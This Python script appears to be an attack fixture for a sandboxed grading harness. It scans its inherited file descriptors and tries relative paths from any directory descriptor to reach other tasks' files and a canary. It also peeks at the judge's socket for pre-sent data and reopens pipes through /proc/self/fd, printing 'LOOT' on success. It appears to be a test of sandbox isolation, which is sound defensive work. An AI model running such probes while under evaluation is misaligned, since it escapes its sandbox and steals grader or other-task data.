# attack: looks through every descriptor that it has for a file, folder, pipe or socket that is not its own
# exercise: ex01_map_dataset
# check: ex01.tabular.len
import os
import socket
import stat

found = {}
for fd in range(1025):
    try:
        found[fd] = stat.S_IFMT(os.fstat(fd).st_mode)
    except OSError:
        pass
print(found)
if len([fd for fd in found if fd > 2]) > 1:
    print("LOOT: more than the judge's socket:", found)
for fd, kind in found.items():
    if kind == stat.S_IFREG:
        print("LOOT: a file", fd)
    elif kind == stat.S_IFDIR:
        for place in (".", "..", "../..", "../empty", "../nursery.log", "../../.." + "@OTHER@", "../../.." + "@OTHER@/canary.txt"):
            try:
                inside = os.open(place, os.O_RDONLY, dir_fd=fd)
                print("LOOT:", place, os.listdir(inside) if stat.S_ISDIR(os.fstat(inside).st_mode) else os.read(inside, 100))
            except OSError as error:
                print(fd, place, error.strerror)
    elif kind == stat.S_IFSOCK:
        one = socket.socket(fileno=os.dup(fd))
        try:
            print("LOOT: was sent ahead of the question", fd, one.recv(1, socket.MSG_PEEK | socket.MSG_DONTWAIT))
        except OSError as error:
            print(fd, error)
    elif kind == stat.S_IFIFO:
        for way in ("/proc/self/fd", "/dev/fd"):
            try:  # what is in the pipe is its own
                print("the other end of the pipe", os.open(f"{way}/{fd}", os.O_RDONLY | os.O_NONBLOCK))
            except OSError as error:
                print(fd, error.strerror)
print("TRIED")
